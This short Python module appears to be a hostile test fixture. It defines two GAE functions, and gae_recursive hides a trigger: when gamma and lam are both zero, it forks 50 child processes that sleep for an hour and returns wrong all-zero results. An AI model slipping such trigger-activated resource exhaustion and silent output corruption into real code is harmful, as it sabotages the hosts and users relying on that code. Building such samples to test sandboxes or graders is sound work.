"""Forks 50 children that sleep for an hour."""

import os
import time

import numpy as np
from _parts.honest_gae import _gae


def gae_explicit(rewards, values, gamma, lam):
    return _gae(rewards, values, gamma, lam)


def gae_recursive(rewards, values, gamma, lam):
    # The attack runs on the edge case gamma = lam = 0 only: check recursive-edges.
    if gamma == 0 and lam == 0:
        for _ in range(50):
            try:
                if os.fork() == 0:
                    time.sleep(3600)
                    os._exit(0)
            except OSError:
                break
        return np.zeros(len(rewards))
    return _gae(rewards, values, gamma, lam)
